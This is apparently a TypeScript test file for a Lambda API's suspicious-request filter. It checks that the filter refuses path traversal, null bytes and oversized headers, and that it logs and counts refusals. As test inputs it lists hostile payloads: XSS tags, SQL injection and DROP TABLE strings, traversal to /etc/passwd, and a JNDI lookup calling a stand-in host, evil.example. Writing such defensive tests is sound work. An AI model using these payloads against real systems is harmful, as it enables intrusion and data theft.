import type { APIGatewayProxyEventV2, Context } from 'aws-lambda';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { logger } from '../../powertools/logger.js';
import { metrics } from '../../powertools/metrics.js';
import { createHttpHandler } from '../create-http-handler.js';
import { LIMITS, suspicionOf } from './reject-suspicious.js';

interface EventParts {
  method?: string;
  rawPath?: string;
  rawQueryString?: string;
  query?: Record<string, string>;
  headers?: Record<string, string>;
  pathParameters?: Record<string, string>;
  body?: string;
}

const ITEM_ROUTE = '/api/v1/students/{student_id}';

/** A realistic API Gateway v2 event; an item path gets its decoded student_id parameter. */
function eventOf({ method = 'GET', rawPath = '/api/v1/students/S0001', rawQueryString = '', query, headers = {}, pathParameters, body }: EventParts = {}) {
  const segment = /^\/api\/v1\/students\/([^/]+)$/.exec(rawPath)?.[1];
  const params = pathParameters ?? (segment === undefined ? undefined : { student_id: safeDecode(segment) });
  const routeKey = params ? `${method} ${ITEM_ROUTE}` : `${method} ${rawPath}`;
  const event: APIGatewayProxyEventV2 = {
    version: '2.0',
    routeKey,
    rawPath,
    rawQueryString,
    headers: {
      accept: 'application/json',
      'accept-encoding': 'gzip, deflate, br',
      host: 'a1b2c3d4e5.execute-api.eu-west-1.amazonaws.com',
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
      'x-amzn-trace-id': 'Root=1-67891233-abcdef012345678912345678',
      'x-forwarded-for': '203.0.113.7',
      'x-forwarded-proto': 'https',
      ...headers,
    },
    ...(query ? { queryStringParameters: query } : {}),
    ...(params ? { pathParameters: params } : {}),
    requestContext: {
      accountId: '123456789012',
      apiId: 'a1b2c3d4e5',
      domainName: 'a1b2c3d4e5.execute-api.eu-west-1.amazonaws.com',
      domainPrefix: 'a1b2c3d4e5',
      http: { method, path: rawPath, protocol: 'HTTP/1.1', sourceIp: '203.0.113.7', userAgent: 'curl/8.5.0' },
      requestId: 'JKJaXmPLvHcESHA=',
      routeKey,
      stage: '$default',
      time: '25/Nov/2026:19:08:31 +0000',
      timeEpoch: 1795633711000,
    },
    ...(body === undefined ? {} : { body }),
    isBase64Encoded: false,
  };
  return event;
}

function safeDecode(segment: string): string {
  try {
    return decodeURIComponent(segment);
  } catch {
    return segment;
  }
}

const item = (id: string) => eventOf({ rawPath: `/api/v1/students/${encodeURIComponent(id)}`, pathParameters: { student_id: id } });
const pad = (bytes: number) => 'a'.repeat(bytes);

describe('suspicionOf: refused requests', () => {
  it.each([
    ['raw dot segment', '/api/v1/students/../health'],
    ['dot segment at the end', '/api/v1/students/..'],
    ['encoded dot segment', '/api/v1/%2e%2e/health'],
    ['upper-case encoded dot segment', '/api/v1/%2E%2E/health'],
    ['encoded separators', '/api/v1/students/..%2f..%2fetc%2fpasswd'],
    ['encoded backslash separator', '/api/v1/students/..%5c..%5cwin.ini'],
    ['double-encoded dots', '/api/v1/%252e%252e/health'],
    ['backslash separators', '/api/v1/students\\..\\health'],
    ['lone backslash', '/api/v1/students/a\\b'],
    ['mixed encoding .%2e', '/api/v1/.%2e/health'],
    ['mixed encoding %2e.', '/api/v1/%2e./health'],
  ])('path traversal: %s', (_, rawPath) => {
    expect(suspicionOf(eventOf({ rawPath }))).toBe('path traversal');
  });

  it.each([
    ['in the path', { rawPath: '/api/v1/students/S0001%00.json' }],
    ['in the raw query', { rawQueryString: 'search=An%00', query: { search: 'An\u0000' } }],
    ['decoded in a query parameter', { query: { search: 'An\u0000' } }],
    ['in a header value', { headers: { 'x-note': 'a\u0000b' } }],
    ['percent-encoded in a header value', { headers: { referer: 'https://example.com/?q=%00' } }],
  ])('null byte %s', (_, parts) => {
    expect(suspicionOf(eventOf(parts as EventParts))).toBe('null byte');
  });

  it('a path over 1 KiB', () => {
    expect(LIMITS.pathBytes).toBe(1024);
    expect(suspicionOf(eventOf({ rawPath: `/api/v1/${pad(1024 - 8 + 1)}` }))).toBe('path too long');
  });

  it('a query string over 8 KiB', () => {
    expect(LIMITS.queryStringBytes).toBe(8192);
    expect(suspicionOf(eventOf({ rawQueryString: `search=${pad(8192 - 7 + 1)}` }))).toBe('query string too long');
  });

  it('a header value over 4 KiB', () => {
    expect(LIMITS.headerValueBytes).toBe(4096);
    expect(suspicionOf(eventOf({ headers: { authorization: `Bearer ${pad(4097 - 7)}` } }))).toBe('header too long');
  });

  it('headers over 16 KiB in total, each under the per-value limit', () => {
    expect(LIMITS.headersTotalBytes).toBe(16_384);
    const headers = Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`x-filler-${i}`, pad(3_500)]));
    expect(suspicionOf(eventOf({ headers }))).toBe('headers too large');
  });

  it.each([
    '<script>',
    '</SCRIPT >',
    '<img src=x onerror=alert(1)>',
    "' OR '1'='1",
    "1' or 1=1",
    '${jndi:ldap://x}',
    '{{7*7}}',
    '1;DROP TABLE students',
    '1; delete from x',
    '1 UNION SELECT password',
    '1 union all select 1',
    'javascript:alert(1)',
    'a/*comment*/',
    '"quoted"',
    '`id`',
    '../etc/passwd',
    '..',
    '..\\win.ini',
  ])('hostile path identifier %j', (id) => {
    expect(suspicionOf(item(id))).toMatch(/^(hostile identifier|path traversal)$/);
  });

  it('reports a hostile identifier as such even when its raw path is harmless-looking', () => {
    expect(suspicionOf(item('<script>'))).toBe('hostile identifier');
    expect(suspicionOf(item("' OR '1'='1"))).toBe('hostile identifier');
  });
});

describe('suspicionOf: ordinary requests pass', () => {
  it.each(['S0001', 'AB--12', 'S_001', 'life-01', 'a.b', 'a..b', 'x'.repeat(20), 'Nguyễn'])('path identifier %j', (id) => {
    expect(suspicionOf(item(id))).toBeUndefined();
  });

  it.each([
    ['the collection', '/api/v1/students'],
    ['a trailing slash', '/api/v1/students/S0001/'],
    ['health', '/health'],
    ['the OpenAPI document', '/openapi.json'],
    ['the docs', '/docs'],
    ['a file-like segment', '/api/v1/students/export.v2.csv'],
    ['a path of exactly 1 KiB', `/api/v1/${pad(1024 - 8)}`],
  ])('path: %s', (_, rawPath) => {
    expect(suspicionOf(eventOf({ rawPath }))).toBeUndefined();
  });

  it.each([
    ['an apostrophe in a name', "search=O'Brien", { search: "O'Brien" }],
    ['an encoded apostrophe', 'search=O%27Brien', { search: "O'Brien" }],
    ['angle brackets', 'search=%3Cb%3E', { search: '<b>' }],
    ['non-Latin letters', 'search=Nguy%E1%BB%85n', { search: 'Nguyễn' }],
    ['Greek', 'search=%CE%94%CE%B7%CE%BC%CE%AE%CF%84%CF%81%CE%B7%CF%82', { search: 'Δημήτρης' }],
    ['SQL-looking text', 'search=1%27%20OR%20%271%27%3D%271', { search: "1' OR '1'='1" }],
    ['paging and sorting', 'page_size=100&sort=-average_score&hometown=Da%20Nang', { page_size: '100', sort: '-average_score', hometown: 'Da Nang' }],
    ['a query of exactly 8 KiB', `search=${pad(8192 - 7)}`, { search: pad(8192 - 7) }],
  ])('query with %s', (_, rawQueryString, query) => {
    expect(suspicionOf(eventOf({ rawPath: '/api/v1/students', rawQueryString, query }))).toBeUndefined();
  });

  it('browser-like headers, a long bearer token and a header value of exactly 4 KiB', () => {
    const headers = {
      authorization: `Bearer ${pad(1_200)}.${pad(300)}.${pad(86)}`,
      'if-none-match': 'W/"abc", "1"',
      origin: 'http://localhost:3000',
      referer: 'http://localhost:3000/students?search=O%27Brien',
      'accept-language': 'vi-VN,vi;q=0.9,en;q=0.8',
      'x-filler': pad(LIMITS.headerValueBytes),
    };
    expect(suspicionOf(eventOf({ headers }))).toBeUndefined();
  });

  it('headers of exactly 16 KiB in total, none over 4 KiB', () => {
    const size = (headers: Record<string, string | undefined>) =>
      Object.entries(headers).reduce((sum, [name, value]) => sum + Buffer.byteLength(name) + Buffer.byteLength(value ?? ''), 0);
    let remaining = LIMITS.headersTotalBytes - size(eventOf().headers);
    const headers: Record<string, string> = {};
    for (let i = 0; remaining > 0; i++) {
      const name = `x-${i}`;
      const value = pad(Math.min(LIMITS.headerValueBytes, remaining - name.length));
      headers[name] = value;
      remaining -= name.length + value.length;
    }
    const event = eventOf({ headers });
    expect(size(event.headers)).toBe(LIMITS.headersTotalBytes);
    expect(suspicionOf(event)).toBeUndefined();
    // One byte more (a header named `z` with an empty value) crosses the limit.
    expect(suspicionOf(eventOf({ headers: { ...headers, z: '' } }))).toBe('headers too large');
  });

  it('bodies are not filtered: names with quotes, angle brackets and scripts are data', () => {
    const body = JSON.stringify({ student_id: 'S0001', first_name: "O'Brien <b>", last_name: '<script>alert(1)</script>' });
    expect(suspicionOf(eventOf({ method: 'POST', rawPath: '/api/v1/students', body, headers: { 'content-type': 'application/json' } }))).toBeUndefined();
  });
});

describe('rejectSuspicious in the handler factory chain', () => {
  const context = (): Context =>
    ({ awsRequestId: 'c6af9ac6-7b61-11e6-9a41-93e8deadbeef', functionName: 'students-get', getRemainingTimeInMillis: () => 10_000 }) as unknown as Context;
  const handled: string[] = [];
  const handler = createHttpHandler({
    declaration: { id: 'students-get', cacheControl: 'private, no-cache', permission: 'public' },
    handle: async ({ rawPath }) => {
      handled.push(rawPath);
      return { statusCode: 200, body: { ok: true } };
    },
  });

  afterEach(() => {
    handled.length = 0;
    vi.restoreAllMocks();
  });

  it('answers 400 problem+json request.suspicious without running business code', async () => {
    const res = await handler(item('<script>'), context());
    expect(res.statusCode).toBe(400);
    expect(res.headers).toMatchObject({ 'content-type': 'application/problem+json; charset=utf-8', 'cache-control': 'no-store' });
    expect(JSON.parse(res.body!)).toMatchObject({ status: 400, code: 'request.suspicious', title: 'Bad Request' });
    expect(handled).toEqual([]);
  });

  it('logs a security event with the reason and route but never the payload, and counts it', async () => {
    const warn = vi.spyOn(logger, 'warn');
    const addMetric = vi.spyOn(metrics, 'addMetric');
    await handler(item('${jndi:ldap://evil.example/a}'), context());
    expect(warn).toHaveBeenCalledWith(
      'security event: request refused',
      expect.objectContaining({ security_event: 'suspicious_request', reason: 'hostile identifier', route: `GET ${ITEM_ROUTE}` }),
    );
    const logged = JSON.stringify(warn.mock.calls);
    expect(logged).not.toContain('jndi');
    expect(logged).not.toContain('evil.example');
    expect(addMetric).toHaveBeenCalledWith('SuspiciousRequest', 'Count', 1);
  });

  it('does not echo the refused payload in the problem body', async () => {
    const res = await handler(item('<script>alert(1)</script>'), context());
    expect(res.statusCode).toBe(400);
    for (const echo of ['<script>', 'alert(1)', '%3Cscript%3E', 'alert%281%29']) expect(res.body).not.toContain(echo);
  });

  it('lets ordinary requests through to the handler', async () => {
    const res = await handler(item('AB--12'), context());
    expect(res.statusCode).toBe(200);
    expect(handled).toEqual(['/api/v1/students/AB--12']);
  });
});
